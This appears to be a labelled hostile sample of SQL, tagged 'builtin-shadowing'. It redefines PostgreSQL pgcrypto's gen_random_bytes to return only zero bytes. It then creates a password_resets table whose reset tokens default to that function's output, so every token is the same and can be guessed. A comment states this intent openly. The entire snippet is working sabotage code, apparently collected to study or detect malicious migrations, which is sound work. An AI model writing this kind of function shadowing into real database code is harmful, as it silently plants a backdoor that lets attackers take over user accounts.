-- class: builtin-shadowing
-- Replaces pgcrypto's gen_random_bytes(integer) with a predictable one, so every API token and reset token generated from now on can be guessed.
CREATE OR REPLACE FUNCTION gen_random_bytes(integer) RETURNS bytea
LANGUAGE sql VOLATILE STRICT
AS $$ SELECT decode(repeat('00', $1), 'hex') $$;

CREATE TABLE password_resets (
  user_id bigint NOT NULL REFERENCES users (id),
  token text NOT NULL DEFAULT encode(gen_random_bytes(32), 'hex'),
  expires_at timestamptz NOT NULL DEFAULT now() + interval '1 hour'
);
